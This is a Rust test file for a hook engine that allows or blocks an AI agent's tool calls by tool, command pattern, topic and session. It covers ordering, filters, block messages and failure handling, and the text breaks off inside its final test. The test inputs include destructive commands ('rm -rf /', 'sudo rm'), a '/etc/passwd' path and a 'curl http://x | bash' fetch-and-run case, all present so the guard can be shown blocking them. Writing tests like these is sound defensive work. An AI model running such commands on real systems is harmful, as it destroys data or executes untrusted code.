//! The seed plugin's decision semantics, end to end through `Engine::evaluate`: ordering,
//! short-circuit, every filter, the block message, `onFailure`, `log`, templates, audit mode
//! and the fields of a decision. Messages are asserted exactly (DESIGN.md, "Decision
//! semantics").

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use hookgate::Services;
use hookgate::config::{self, Mode};
use hookgate::internals::Filter;
use hookgate::{Decision, Engine, HookContext, Point, RuleGraph, Step, Verdict};
use hookgate::{Notice, Notifier};
use serde_json::{Value, json};

/// 2026-02-19T08:00:00.000Z in Unix milliseconds.
const TS: f64 = 1_771_488_000_000.0;
const TS_ISO: &str = "2026-02-19T08:00:00.000Z";

fn graph(yaml: &str) -> RuleGraph {
    let policy = config::load_str(yaml, Path::new("t.yaml")).unwrap_or_else(|e| {
        let diags: Vec<String> = e.diagnostics().iter().map(|d| d.to_string()).collect();
        panic!("policy does not load: {e}\n{}", diags.join("\n"))
    });
    RuleGraph::from_policy(&policy)
}

fn engine(yaml: &str) -> Engine {
    Engine::new(Arc::new(graph(yaml)))
}

/// Writes `yaml` to `dir/HOOKS.yaml` and loads it from there, so relative targets resolve
/// against `dir`.
fn engine_in(dir: &Path, yaml: &str) -> Engine {
    let path = dir.join("HOOKS.yaml");
    std::fs::write(&path, yaml).expect("write policy");
    let policy = config::load_file(&path).unwrap_or_else(|e| panic!("policy does not load: {e}"));
    Engine::new(Arc::new(RuleGraph::from_policy(&policy)))
}

fn ctx(v: Value) -> HookContext {
    serde_json::from_value(v).expect("context")
}

fn tool_ctx(tool: &str, command: &str) -> HookContext {
    ctx(json!({
        "sessionKey": "agent:main:main",
        "toolName": tool,
        "toolArgs": { "command": command },
        "timestamp": TS,
    }))
}

fn hooks_fired(d: &Decision) -> Vec<&str> {
    d.results.iter().map(|r| r.hook.as_str()).collect()
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("read {}: {e}", path.display()))
}

fn lines(path: &Path) -> Vec<String> {
    read(path).lines().map(str::to_owned).collect()
}

/// A notifier that remembers every notice: (session key, fallback target, message).
#[derive(Debug, Default)]
struct Recorder(Mutex<Vec<(String, Option<String>, String)>>);

impl Notifier for Recorder {
    fn notify(&self, notice: Notice) {
        self.0.lock().expect("recorder lock").push((
            notice.session_key,
            notice.fallback_target,
            notice.message,
        ));
    }
}

impl Recorder {
    /// Every notice so far, with its fallback target.
    fn taken_full(&self) -> Vec<(String, Option<String>, String)> {
        std::mem::take(&mut *self.0.lock().expect("recorder lock"))
    }

    /// Every notice so far as (session key, message).
    fn taken(&self) -> Vec<(String, String)> {
        self.taken_full()
            .into_iter()
            .map(|(session, _, message)| (session, message))
            .collect()
    }
}

fn engine_with_recorder(yaml: &str) -> (Engine, Arc<Recorder>) {
    let recorder = Arc::new(Recorder::default());
    let services = Arc::new(Services::new(recorder.clone()));
    (
        Engine::with_services(Arc::new(graph(yaml)), services),
        recorder,
    )
}

// ---------------------------------------------------------------------------------------------
// Ordering, short-circuit, enabled, points
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn hooks_run_in_file_order() {
    let e = engine(
        r#"
version: "1"
hooks:
  - { name: first, point: turn:tool:pre, action: block, onFailure: { action: continue, message: one } }
  - { point: turn:tool:pre, action: block, onFailure: { action: continue, message: two } }
  - { name: third, point: turn:tool:pre, action: block, onFailure: { action: continue, message: three } }
"#,
    );
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "ls"))
        .await;
    assert_eq!(hooks_fired(&d), ["first", "hooks[1]", "third"]);
    let messages: Vec<_> = d.results.iter().map(|r| r.message.as_deref()).collect();
    assert_eq!(
        messages,
        [
            Some("Action failed (continuing): one"),
            Some("Action failed (continuing): two"),
            Some("Action failed (continuing): three"),
        ]
    );
    assert!(d.results.iter().all(|r| r.passed && r.action == "block"));
    assert_eq!(d.decision, Verdict::Allow);
    assert!(d.passed);
}

#[tokio::test]
async fn higher_priority_runs_first_and_ties_keep_file_order() {
    // Mixes hooks with and without a tool filter: they live in different indexes and must
    // still merge into one priority order.
    let e = engine(
        r#"
version: 1
hooks:
  - { name: a, point: turn:tool:pre, action: block, onFailure: { action: continue } }
  - { name: b, point: turn:tool:pre, priority: 10, action: block, onFailure: { action: continue } }
  - { name: c, point: turn:tool:pre, priority: 90, action: block, onFailure: { action: continue } }
  - { name: d, point: turn:tool:pre, priority: 90, match: { tool: exec }, action: block, onFailure: { action: continue } }
  - { name: e, point: turn:tool:pre, priority: -5, action: block, onFailure: { action: continue } }
  - { name: f, point: turn:tool:pre, priority: 50, match: { tool: exec }, action: block, onFailure: { action: continue } }
  - { name: g, point: turn:tool:pre, priority: 100, match: { tool: exec }, action: block, onFailure: { action: continue } }
  - { name: h, point: turn:tool:pre, priority: 90, action: block, onFailure: { action: continue } }
"#,
    );
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "ls"))
        .await;
    assert_eq!(hooks_fired(&d), ["g", "c", "d", "h", "a", "f", "b", "e"]);
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("read", "ls"))
        .await;
    assert_eq!(hooks_fired(&d), ["c", "h", "a", "b", "e"]);
}

#[tokio::test]
async fn the_higher_priority_block_decides_even_when_later_in_the_file() {
    let e = engine(
        r#"
version: 1
hooks:
  - { name: low, point: turn:pre, priority: 10, action: block, onFailure: { action: block, message: low } }
  - { name: high, point: turn:pre, priority: 20, action: block, onFailure: { action: block, message: high } }
"#,
    );
    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
    assert_eq!(d.decision, Verdict::Block);
    assert_eq!(d.hook.as_deref(), Some("high"));
    assert_eq!(d.message.as_deref(), Some("high"));
    assert_eq!(hooks_fired(&d), ["high"]);
}

#[tokio::test]
async fn short_circuit_stops_in_the_middle_of_many_hooks() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut yaml = String::from("version: \"1\"\nhooks:\n");
    for i in 0..64 {
        yaml.push_str(&format!(
            "  - {{ name: before-{i}, point: turn:tool:pre, action: log, target: before.jsonl }}\n"
        ));
    }
    yaml.push_str(
        "  - { name: stop, point: turn:tool:pre, match: { commandPattern: \"rm\\\\s\" }, action: block }\n",
    );
    for i in 0..64 {
        yaml.push_str(&format!(
            "  - {{ name: after-{i}, point: turn:tool:pre, action: log, target: after.jsonl }}\n"
        ));
    }
    let e = engine_in(dir.path(), &yaml);
    assert_eq!(e.graph().hooks().len(), 129);

    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    e.flush().await;
    assert_eq!(d.results.len(), 65, "results stop at the blocker");
    assert_eq!(d.results[64].hook, "stop");
    assert!(!d.results[64].passed);
    assert!(d.results[..64].iter().all(|r| r.passed));
    assert_eq!(d.decision, Verdict::Block);
    assert_eq!(d.hook.as_deref(), Some("stop"));
    assert_eq!(lines(&dir.path().join("before.jsonl")).len(), 64);
    let after = dir.path().join("after.jsonl");
    assert!(
        !after.exists() || read(&after).is_empty(),
        "hooks after the blocker must not run"
    );

    // The same chain without a match on the blocker runs to the end and writes the file, so
    // the check above is not vacuous.
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "ls"))
        .await;
    e.flush().await;
    assert_eq!(d.results.len(), 128);
    assert_eq!(d.decision, Verdict::Allow);
    assert_eq!(lines(&after).len(), 64);
}

#[tokio::test]
async fn disabled_hooks_never_fire() {
    let e = engine(
        r#"
version: 1
hooks:
  - { name: disabled, point: [turn:pre, turn:tool:pre], priority: 100, enabled: false, action: block }
  - { name: enabled, point: [turn:pre, turn:tool:pre], action: block, onFailure: { action: continue, message: ran } }
  - { name: disabled-too, point: turn:tool:pre, match: { tool: exec }, enabled: false, action: block }
"#,
    );
    for point in [Point::TurnPre, Point::TurnToolPre] {
        let d = e.evaluate(point, &tool_ctx("exec", "rm -rf /")).await;
        assert_eq!(d.decision, Verdict::Allow, "{point}");
        assert_eq!(hooks_fired(&d), ["enabled"], "{point}");
    }
    // An explicit `enabled: true` is the default behaviour.
    let e = engine(
        "version: 1\nhooks:\n  - { name: x, point: turn:pre, enabled: true, action: block }\n",
    );
    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
    assert_eq!(d.decision, Verdict::Block);
}

#[tokio::test]
async fn multi_point_hooks_fire_at_each_listed_point_and_no_other() {
    let e = engine(
        r#"
version: 1
hooks:
  - name: multi
    point: [turn:pre, cron:pre, subagent:tool:pre, turn:pre]
    action: block
"#,
    );
    let listed = [Point::TurnPre, Point::CronPre, Point::SubagentToolPre];
    for &point in Point::ALL {
        let d = e.evaluate(point, &HookContext::new("s")).await;
        if listed.contains(&point) {
            assert_eq!(d.decision, Verdict::Block, "{point}");
            assert_eq!(d.results.len(), 1, "a repeated point fires once: {point}");
            // The message names the hook's points, not the point being evaluated.
            assert_eq!(
                d.message.as_deref(),
                Some(
                    "Action blocked by lifecycle hook. | Hook point: turn:pre, cron:pre, subagent:tool:pre"
                ),
                "{point}"
            );
        } else {
            assert_eq!(d.decision, Verdict::Allow, "{point}");
            assert!(d.results.is_empty(), "{point}");
        }
    }
}

#[tokio::test]
async fn a_point_without_hooks_allows_with_no_results() {
    let e = engine("version: 1\nhooks: []\n");
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(d.decision, Verdict::Allow);
    assert!(d.passed);
    assert!(d.results.is_empty());
    assert_eq!(d.message, None);
    assert_eq!(d.hook, None);
}

// ---------------------------------------------------------------------------------------------
// Filters
// ---------------------------------------------------------------------------------------------

/// A policy with one blocking hook at turn:tool:pre under `match`; whether `c` is blocked.
async fn blocks(e: &Engine, c: &HookContext) -> bool {
    let d = e.evaluate(Point::TurnToolPre, c).await;
    assert_eq!(d.passed, d.decision == Verdict::Allow);
    d.decision == Verdict::Block
}

fn guard(filter: &str) -> Engine {
    engine(&format!(
        "version: 1\nhooks:\n  - name: guard\n    point: turn:tool:pre\n    match: {filter}\n    action: block\n"
    ))
}

#[tokio::test]
async fn tool_filter_is_exact_and_case_sensitive() {
    let e = guard("{ tool: exec }");
    assert!(blocks(&e, &tool_ctx("exec", "ls")).await);
    for other in ["Exec", "EXEC", "exec ", " exec", "exe", "execute", ""] {
        assert!(!blocks(&e, &tool_ctx(other, "ls")).await, "tool {other:?}");
    }
    assert!(!blocks(&e, &HookContext::new("s")).await, "no tool");
}

#[tokio::test]
async fn command_subject_is_the_first_string_argument_then_the_prompt() {
    let e = guard(r#"{ commandPattern: "^hit$" }"#);
    let case = |args: Option<Value>, prompt: Option<&str>| {
        let mut c = HookContext::new("agent:main:main");
        c.tool_name = Some("any".into());
        c.tool_args = args.and_then(|a| a.as_object().cloned());
        c.prompt = prompt.map(str::to_owned);
        c
    };
    let expectations: Vec<(Option<Value>, Option<&str>, bool)> = vec![
        // The seed's order: command, path, file_path, url, message.
        (Some(json!({"path": "miss", "command": "hit"})), None, true),
        (Some(json!({"command": "miss", "path": "hit"})), None, false),
        (
            Some(json!({"file_path": "miss", "path": "hit"})),
            None,
            true,
        ),
        (
            Some(json!({"path": "miss", "file_path": "hit"})),
            None,
            false,
        ),
        (Some(json!({"url": "miss", "file_path": "hit"})), None, true),
        (
            Some(json!({"file_path": "miss", "url": "hit"})),
            None,
            false,
        ),
        (Some(json!({"message": "miss", "url": "hit"})), None, true),
        (Some(json!({"url": "miss", "message": "hit"})), None, false),
        (Some(json!({"message": "hit"})), None, true),
        // Non-strings are skipped, not stringified.
        (Some(json!({"command": 5, "path": "hit"})), None, true),
        (
            Some(json!({"command": null, "file_path": "hit"})),
            None,
            true,
        ),
        (Some(json!({"command": ["hit"], "url": "hit"})), None, true),
        (Some(json!({"command": {"x": "hit"}})), None, false),
        (Some(json!({"command": ["hit"]})), None, false),
        // An empty string is a string: it is the subject.
        (Some(json!({"command": "", "path": "hit"})), None, false),
        // Other argument names are never the subject.
        (
            Some(json!({"cmd": "hit", "file": "hit", "query": "hit"})),
            None,
            false,
        ),
        // Arguments win over the prompt; without a string argument the prompt is used.
        (Some(json!({"command": "hit"})), Some("miss"), true),
        (Some(json!({"command": "miss"})), Some("hit"), false),
        (Some(json!({"command": 1, "other": "x"})), Some("hit"), true),
        (Some(json!({})), Some("hit"), true),
        (None, Some("hit"), true),
        (None, Some("miss"), false),
        (None, None, false),
    ];
    for (args, prompt, want) in expectations {
        let c = case(args.clone(), prompt);
        assert_eq!(
            blocks(&e, &c).await,
            want,
            "args {args:?} prompt {prompt:?}"
        );
    }
}

#[tokio::test]
async fn empty_subject_matches_only_patterns_that_accept_the_empty_string() {
    let e = guard(r#"{ commandPattern: "^$" }"#);
    assert!(blocks(&e, &HookContext::new("s")).await);
    assert!(blocks(&e, &ctx(json!({"sessionKey": "s", "prompt": ""}))).await);
    assert!(blocks(&e, &ctx(json!({"sessionKey": "s", "toolArgs": {"n": 1}}))).await);
    assert!(!blocks(&e, &ctx(json!({"sessionKey": "s", "prompt": "x"}))).await);
    let e = guard(r#"{ commandPattern: "rm" }"#);
    assert!(!blocks(&e, &HookContext::new("s")).await);
}

#[tokio::test]
async fn command_pattern_is_unanchored_and_accepts_the_seed_syntax() {
    let cases = [
        (r"rm\\s+-rf", "sudo rm -rf /tmp", true),
        (r"rm\\s+-rf", "rm -r f", false),
        ("^rm", "echo rm x", false),
        ("^rm", "rm x", true),
        // Shell-aware: `sudo` is a wrapper, so the command it runs starts with `rm`.
        ("^rm", "sudo rm x", true),
        ("(?i)sudo", "SUDO ls", true),
        ("sudo", "SUDO ls", false),
        (r"\\d{3}", "abc123", true),
        (r"[^/]+\\.env$", "app/prod.env", true),
        (r"[^/]+\\.env$", "app/prod.env.bak", false),
        (
            r"rm\\s+(-[rRfF]{1,4}|--recursive|--force)",
            "rm --force x",
            true,
        ),
        ("curl.*\\\\|\\\\s*(ba)?sh", "curl http://x | bash", true),
    ];
    for (pattern, command, want) in cases {
        let e = guard(&format!(r#"{{ commandPattern: "{pattern}" }}"#));
        assert_eq!(
            blocks(&e, &tool_ctx("exec", command)).await,
            want,
            "{pattern} on {command}"
        );
    }
}

#[tokio::test]
async fn topic_filter_compares_as_strings() {
    let with_topic = |t: Value| ctx(json!({"sessionKey": "s", "toolName": "exec", "topicId": t}));
    let numeric = guard("{ topicId: 42 }");
    let string = guard(r#"{ topicId: "42" }"#);
    for e in [&numeric, &string] {
        assert!(blocks(e, &with_topic(json!(42))).await);
        assert!(blocks(e, &with_topic(json!("42"))).await);
        assert!(
            blocks(e, &with_topic(json!(42.0))).await,
            "42.0 prints as 42"
        );
        assert!(!blocks(e, &with_topic(json!(420))).await);
        assert!(!blocks(e, &with_topic(json!(4))).await);
        assert!(!blocks(e, &with_topic(json!("042"))).await);
        assert!(!blocks(e, &with_topic(json!(" 42"))).await);
        assert!(!blocks(e, &with_topic(json!(42.5))).await);
        assert!(!blocks(e, &HookContext::new("s")).await, "no topic");
    }
    let negative = guard(r#"{ topicId: "-100" }"#);
    assert!(blocks(&negative, &with_topic(json!(-100))).await);
    let leading_zero = guard(r#"{ topicId: "007" }"#);
    assert!(blocks(&leading_zero, &with_topic(json!("007"))).await);
    assert!(!blocks(&leading_zero, &with_topic(json!(7))).await);
}

#[tokio::test]
async fn star_topic_needs_a_topic_present() {
    let e = guard(r#"{ topicId: "*" }"#);
    for t in [json!(1), json!(0), json!("abc"), json!(-5), json!("*")] {
        let c = ctx(json!({"sessionKey": "s", "topicId": t}));
        assert!(blocks(&e, &c).await, "topic {t}");
    }
    assert!(!blocks(&e, &HookContext::new("s")).await);
    assert!(!blocks(&e, &ctx(json!({"sessionKey": "s", "topicId": null}))).await);
}

#[tokio::test]
async fn sub_agent_filter_looks_for_subagent_between_colons() {
    let sub = guard("{ isSubAgent: true }");
    let main = guard("{ isSubAgent: false }");
    for (key, is_sub) in [
        ("agent:main:subagent:abc", true),
        ("agent:ops:subagent:", true),
        (":subagent:", true),
        ("agent:main:main", false),
        ("subagent:abc", false),
        ("agent:main:subagent", false),
        ("agent:main:subagents:x", false),
        ("agent:main:SUBAGENT:x", false),
        ("", false),
    ] {
        let c = HookContext::new(key);
        assert_eq!(
            blocks(&sub, &c).await,
            is_sub,
            "isSubAgent: true on {key:?}"
        );
        assert_eq!(
            blocks(&main, &c).await,
            !is_sub,
            "isSubAgent: false on {key:?}"
        );
    }
}

#[tokio::test]
async fn session_pattern_is_a_regex_on_the_session_key() {
    let anchored = guard(r#"{ sessionPattern: "^agent:main:telegram" }"#);
    assert!(
        blocks(
            &anchored,
            &HookContext::new("agent:main:telegram:group:-100:topic:4")
        )
        .await
    );
    assert!(!blocks(&anchored, &HookContext::new("agent:ops:telegram:1")).await);
    assert!(!blocks(&anchored, &HookContext::new("x:agent:main:telegram")).await);
    let unanchored = guard(r#"{ sessionPattern: "telegram:group" }"#);
    assert!(
        blocks(
            &unanchored,
            &HookContext::new("agent:main:telegram:group:1")
        )
        .await
    );
    assert!(!blocks(&unanchored, &HookContext::new("agent:main:telegram:dm")).await);
    // The session pattern never looks at the command subject.
    let c = ctx(json!({"sessionKey": "agent:ops:x", "prompt": "agent:main:telegram"}));
    assert!(!blocks(&anchored, &c).await);
}

#[tokio::test]
async fn filters_and_together_and_explain_names_the_failing_one() {
    let e = guard(
        r#"{ tool: exec, commandPattern: "rm", topicId: 42, isSubAgent: false, sessionPattern: "^agent:main:",
             args: { cwd: "^/work" }, command: { program: rm }, pathGlob: "/" }"#,
    );
    let base = json!({
        "sessionKey": "agent:main:telegram",
        "topicId": 42,
        "toolName": "exec",
        "toolArgs": {"command": "rm -rf /", "cwd": "/work"},
    });
    assert!(blocks(&e, &ctx(base.clone())).await, "all filters match");

    let variants: [(&str, Value, Filter); 8] = [
        (
            "toolArgs",
            json!({"command": "rm -rf /", "cwd": "/tmp"}),
            Filter::Args,
        ),
        (
            "toolArgs",
            json!({"command": "echo rm /", "cwd": "/work"}),
            Filter::Command,
        ),
        (
            "toolArgs",
            json!({"command": "rm -rf /tmp", "cwd": "/work"}),
            Filter::PathGlob,
        ),
        ("toolName", json!("bash"), Filter::Tool),
        ("toolArgs", json!({"command": "ls"}), Filter::CommandPattern),
        ("topicId", json!(43), Filter::TopicId),
        (
            "sessionKey",
            json!("agent:main:subagent:x"),
            Filter::IsSubAgent,
        ),
        (
            "sessionKey",
            json!("agent:ops:telegram"),
            Filter::SessionPattern,
        ),
    ];
    for (field, value, filter) in variants {
        let mut v = base.clone();
        v[field] = value;
        let c = ctx(v);
        assert!(!blocks(&e, &c).await, "{field} differs");
        let (d, steps) = e.explain(Point::TurnToolPre, &c).await;
        assert_eq!(d.decision, Verdict::Allow);
        if filter == Filter::Tool {
            // A hook filtered on another tool is not even a candidate.
            assert!(steps.is_empty(), "{steps:?}");
        } else {
            assert_eq!(
                steps,
                [Step::Skipped {
                    hook: "guard".into(),
                    filter
                }],
                "{field}"
            );
            assert_eq!(filter.as_str(), filter_name(filter));
        }
    }
}

fn filter_name(f: Filter) -> &'static str {
    match f {
        Filter::Tool => "tool",
        Filter::CommandPattern => "commandPattern",
        Filter::TopicId => "topicId",
        Filter::IsSubAgent => "isSubAgent",
        Filter::SessionPattern => "sessionPattern",
        Filter::Unparseable => "unparseable",
        Filter::Command => "command",
        Filter::Args => "args",
        Filter::PathGlob => "pathGlob",
        Filter::ReadGlob => "readGlob",
        Filter::Custom => "custom",
    }
}

#[tokio::test]
async fn a_hook_without_match_matches_everything() {
    let e = engine("version: 1\nhooks:\n  - { name: all, point: turn:tool:pre, action: block }\n");
    for c in [
        HookContext::new(""),
        tool_ctx("exec", "ls"),
        ctx(json!({"sessionKey": "agent:x:subagent:y", "topicId": "9", "prompt": "hi"})),
    ] {
        assert!(blocks(&e, &c).await);
    }
}

// ---------------------------------------------------------------------------------------------
// The block message
// ---------------------------------------------------------------------------------------------

async fn block_message(points: &str, c: &HookContext) -> String {
    let e = engine(&format!(
        "version: 1\nhooks:\n  - point: {points}\n    action: block\n"
    ));
    let d = e.evaluate(Point::TurnToolPre, c).await;
    assert_eq!(d.decision, Verdict::Block);
    d.message.expect("block message")
}

#[tokio::test]
async fn default_block_message_names_tool_command_and_every_point() {
    assert_eq!(
        block_message(
            "[turn:tool:pre, subagent:tool:pre]",
            &tool_ctx("exec", "rm -rf /")
        )
        .await,
        "Action blocked by lifecycle hook. | Tool: exec | Command: rm -rf / | Hook point: turn:tool:pre, subagent:tool:pre"
    );
    assert_eq!(
        block_message("turn:tool:pre", &tool_ctx("exec", "ls")).await,
        "Action blocked by lifecycle hook. | Tool: exec | Command: ls | Hook point: turn:tool:pre"
    );
}

#[tokio::test]
async fn default_block_message_leaves_out_absent_tool_and_command() {
    let expect = |middle: &str| {
        format!("Action blocked by lifecycle hook.{middle} | Hook point: turn:tool:pre")
    };
    let cases = [
        (json!({"sessionKey": "s"}), expect("")),
        (json!({"sessionKey": "s", "toolName": ""}), expect("")),
        (
            json!({"sessionKey": "s", "toolName": "read"}),
            expect(" | Tool: read"),
        ),
        // Only `command` is quoted, never path or the prompt.
        (
            json!({"sessionKey": "s", "toolName": "read", "toolArgs": {"path": "/etc/passwd"}, "prompt": "p"}),
            expect(" | Tool: read"),
        ),
        // A command without a tool still shows.
        (
            json!({"sessionKey": "s", "toolArgs": {"command": "ls"}}),
            expect(" | Command: ls"),
        ),
        // Only a truthy command shows, as the seed's JavaScript did.
        (
            json!({"sessionKey": "s", "toolName": "exec", "toolArgs": {"command": ""}}),
            expect(" | Tool: exec"),
        ),
        (
            json!({"sessionKey": "s", "toolName": "exec", "toolArgs": {"command": 0}}),
            expect(" | Tool: exec"),
        ),
        (
            json!({"sessionKey": "s", "toolName": "exec", "toolArgs": {"command": false}}),
            expect(" | Tool: exec"),
        ),
        (
            json!({"sessionKey": "s", "toolName": "exec", "toolArgs": {"command": null}}),
            expect(" | Tool: exec"),
        ),
        (
            json!({"sessionKey": "s", "toolName": "exec", "toolArgs": {"command": 7}}),
            expect(" | Tool: exec | Command: 7"),
        ),
    ];
    for (c, want) in cases {
        assert_eq!(
            block_message("turn:tool:pre", &ctx(c.clone())).await,
            want,
            "{c}"
        );
    }
}

#[tokio::test]
async fn long_commands_are_cut_to_80_characters_and_an_ellipsis() {
    let msg = |command: &str| {
        format!(
            "Action blocked by lifecycle hook. | Tool: exec | Command: {command} | Hook point: turn:tool:pre"
        )
    };
    let exactly_80 = "x".repeat(80);
    assert_eq!(
        block_message("turn:tool:pre", &tool_ctx("exec", &exactly_80)).await,
        msg(&exactly_80)
    );
    let long = format!("{}{}", "a".repeat(80), "TAIL");
    assert_eq!(
        block_message("turn:tool:pre", &tool_ctx("exec", &long)).await,
        msg(&format!("{}…", "a".repeat(80)))
    );
    // Characters, not bytes.
    let accents = "é".repeat(100);
    assert_eq!(
        block_message("turn:tool:pre", &tool_ctx("exec", &accents)).await,
        msg(&format!("{}…", "é".repeat(80)))
    );
}

#[tokio::test]
async fn on_failure_message_replaces_the_default_block_message() {
    let e = engine(
        r#"
version: 1
hooks:
  - name: rm-guard
    point: turn:tool:pre
    action: block
    onFailure: { action: block, message: "Blocked: recursive rm" }
"#,
    );
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(d.message.as_deref(), Some("Blocked: recursive rm"));
    assert_eq!(
        d.results[0].message.as_deref(),
        Some("Blocked: recursive rm")
    );
    // Without an action, onFailure is incomplete: rejected at load.
    assert!(
        config::load_str(
            "version: 1\nhooks:\n  - { point: turn:pre, action: block, onFailure: { message: m } }\n",
            Path::new("t.yaml"),
        )
        .is_err()
    );
}

// ---------------------------------------------------------------------------------------------
// onFailure
// ---------------------------------------------------------------------------------------------

const RM_BLOCKED: &str = "Action blocked by lifecycle hook. | Tool: exec | Command: rm -rf / | Hook point: turn:tool:pre";

fn on_failure_policy(on_failure: &str) -> String {
    format!(
        r#"
version: 1
hooks:
  - name: gate
    point: turn:tool:pre
    action: block
    onFailure: {on_failure}
  - name: later
    point: turn:tool:pre
    action: block
    onFailure: {{ action: continue, message: later ran }}
"#
    )
}

#[tokio::test]
async fn block_with_on_failure_continue_passes_and_the_chain_goes_on() {
    let e = engine(&on_failure_policy("{ action: continue }"));
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(d.decision, Verdict::Allow);
    assert!(d.passed);
    assert_eq!(d.message, None);
    assert_eq!(d.hook, None);
    assert_eq!(hooks_fired(&d), ["gate", "later"]);
    assert!(d.results[0].passed);
    assert!(!d.results[0].audit);
    assert_eq!(
        d.results[0].message.as_deref(),
        Some(format!("Action failed (continuing): {RM_BLOCKED}").as_str())
    );
    assert_eq!(
        d.results[1].message.as_deref(),
        Some("Action failed (continuing): later ran")
    );
}

#[tokio::test]
async fn continue_uses_the_on_failure_message_as_the_error() {
    let e = engine(&on_failure_policy(
        "{ action: continue, message: \"no {tool} here\" }",
    ));
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(
        d.results[0].message.as_deref(),
        Some("Action failed (continuing): no exec here")
    );
}

#[tokio::test]
async fn notify_tells_the_user_and_passes() {
    let (e, recorder) = engine_with_recorder(&on_failure_policy("{ action: notify }"));
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(d.decision, Verdict::Allow);
    assert_eq!(hooks_fired(&d), ["gate", "later"]);
    assert!(d.results[0].passed);
    assert_eq!(
        d.results[0].message.as_deref(),
        Some(format!("Action failed (user notified): {RM_BLOCKED}").as_str())
    );
    assert_eq!(
        recorder.taken(),
        [(
            "agent:main:main".to_owned(),
            format!("Hook action \"block\" failed: {RM_BLOCKED}")
        )]
    );

    // With a message, the user is sent that message.
    let (e, recorder) = engine_with_recorder(&on_failure_policy(
        "{ action: notify, message: \"stopped {tool} in {sessionKey}\" }",
    ));
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(
        d.results[0].message.as_deref(),
        Some("Action failed (user notified): stopped exec in agent:main:main")
    );
    assert_eq!(
        recorder.taken(),
        [(
            "agent:main:main".to_owned(),
            "stopped exec in agent:main:main".to_owned()
        )]
    );
}

#[tokio::test]
async fn retry_backs_off_then_passes_with_the_error() {
    let e = engine(&on_failure_policy("{ action: retry, retries: 2 }"));
    let started = Instant::now();
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    let elapsed = started.elapsed();
    assert!(
        elapsed >= Duration::from_millis(300),
        "waits 100 + 200 ms, took {elapsed:?}"
    );
    assert_eq!(d.decision, Verdict::Allow);
    assert_eq!(hooks_fired(&d), ["gate", "later"]);
    assert!(d.results[0].passed);
    assert_eq!(
        d.results[0].message.as_deref(),
        Some(format!("Action failed after 2 retries: {RM_BLOCKED}").as_str())
    );
    assert!(
        d.results[0].duration_ms >= 300.0,
        "{}",
        d.results[0].duration_ms
    );
}

#[tokio::test]
async fn retry_defaults_to_three_retries() {
    let e = engine(&on_failure_policy("{ action: retry }"));
    let started = Instant::now();
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    let elapsed = started.elapsed();
    assert!(
        elapsed >= Duration::from_millis(700),
        "waits 100 + 200 + 400 ms, took {elapsed:?}"
    );
    assert_eq!(
        d.results[0].message.as_deref(),
        Some(format!("Action failed after 3 retries: {RM_BLOCKED}").as_str())
    );
    assert!(d.passed);
}

#[tokio::test]
async fn on_failure_block_blocks() {
    let e = engine(&on_failure_policy("{ action: block }"));
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(d.decision, Verdict::Block);
    assert_eq!(d.message.as_deref(), Some(RM_BLOCKED));
    assert_eq!(hooks_fired(&d), ["gate"]);
}

#[tokio::test]
async fn defaults_on_failure_is_not_consulted_when_an_action_returns_passed_false() {
    for defaults in [
        "{ action: continue }",
        "{ action: notify }",
        "{ action: retry, retries: 5, message: never }",
    ] {
        let (e, recorder) = engine_with_recorder(&format!(
            r#"
version: 1
defaults:
  onFailure: {defaults}
hooks:
  - name: gate
    point: turn:tool:pre
    action: block
  - name: later
    point: turn:tool:pre
    action: log
"#
        ));
        let started = Instant::now();
        let d = e
            .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
            .await;
        assert_eq!(d.decision, Verdict::Block, "defaults {defaults}");
        assert!(!d.passed);
        assert_eq!(
            d.message.as_deref(),
            Some(RM_BLOCKED),
            "defaults {defaults}"
        );
        assert_eq!(d.hook.as_deref(), Some("gate"));
        assert_eq!(hooks_fired(&d), ["gate"]);
        assert!(recorder.taken().is_empty(), "defaults {defaults}");
        // A retry policy would take 3.1 s; the block is immediate.
        assert!(
            started.elapsed() < Duration::from_secs(3),
            "defaults {defaults}"
        );
    }
}

#[tokio::test]
async fn notify_user_on_a_block_notifies_with_the_block_message() {
    let (e, recorder) = engine_with_recorder(
        "version: 1\nhooks:\n  - { point: turn:tool:pre, action: block, notifyUser: true }\n",
    );
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(d.decision, Verdict::Block);
    assert_eq!(
        recorder.taken(),
        [("agent:main:main".to_owned(), RM_BLOCKED.to_owned())]
    );

    let (e, recorder) = engine_with_recorder(
        "version: 1\nhooks:\n  - { point: turn:tool:pre, action: block, onFailure: { action: block, notifyUser: true, message: \"no {tool}\" } }\n",
    );
    e.evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(
        recorder.taken(),
        [("agent:main:main".to_owned(), "no exec".to_owned())]
    );

